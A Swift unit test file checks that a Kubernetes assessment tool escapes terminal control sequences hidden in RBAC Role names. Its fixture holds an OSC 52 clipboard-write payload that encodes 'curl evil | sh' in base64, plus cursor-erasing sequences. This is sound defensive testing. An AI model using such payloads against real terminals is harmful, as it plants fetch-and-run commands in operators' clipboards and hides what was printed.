import Foundation
import XCTest
@testable import EksodusCore

/// A name a namespace admin may give a Role (RBAC names are only path-segment checked) can hold terminal control sequences:
/// OSC 52 writes the operator's clipboard, CSI moves the cursor over what was printed. No command prints one raw.
extension CommandLineTests {
    static let hostileName = "r\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}\u{1B}[1A\u{1B}[2K"

    private func assertNoControlSequence(_ text: String, _ what: String, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertFalse(text.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{07}" }, "\(what) printed a raw escape: \(text.debugDescription)", file: file, line: line)
    }

    func testAssessPrintsAHostileRoleNameEscaped() throws {
        let folder = try temporaryFolder(self)
        // YAML's double-quoted \e and \a are ESC and BEL.
        let manifest = """
            apiVersion: rbac.authorization.k8s.io/v1
            kind: Role
            metadata: {name: "r\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\e[1A\\e[2K", namespace: tenant}
            rules: [{apiGroups: [""], resources: ["pods"], verbs: ["get"]}]
            ---
            apiVersion: rbac.authorization.k8s.io/v1
            kind: RoleBinding
            metadata: {name: pub, namespace: tenant}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: "r\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\e[1A\\e[2K"}
            subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:unauthenticated"}]

            """
        try manifest.write(to: folder.appendingPathComponent("rbac.yaml"), atomically: true, encoding: .utf8)
        let imported = try eksodus(["import", "rbac.yaml", "--cluster", "c1", "--db", "e.db", "--quiet"], in: folder)
        XCTAssertEqual(imported.status, 0, imported.stderr)
        let assessed = try eksodus(["assess", "--target-version", "1.33", "--db", "e.db"], in: folder)
        XCTAssertTrue(assessed.stdout.contains("Blockers:"), assessed.stdout)
        XCTAssertTrue(assessed.stdout.contains("SEC009"), assessed.stdout)
        XCTAssertTrue(assessed.stdout.contains("r\\u{1B}]52;c;"), "the name is shown, escaped: \(assessed.stdout)")
        assertNoControlSequence(assessed.stdout + assessed.stderr, "assess")
    }

    func testAnErrorNamingAHostileItemKeyIsEscaped() throws {
        let folder = try demoFolder()
        for action in ["start", "done", "show"] {
            let run = try eksodus(["cutover", action, "deploy:x/" + Self.hostileName, "--db", "eksodus.db"], in: folder)
            XCTAssertNotEqual(run.status, 0)
            XCTAssertTrue(run.stderr.hasPrefix("Error: "), run.stderr)
            XCTAssertTrue(run.stderr.contains("\\u{1B}]52;c;"), "the key is shown, escaped: \(run.stderr)")
            assertNoControlSequence(run.stdout + run.stderr, "cutover \(action)")
        }
    }
}
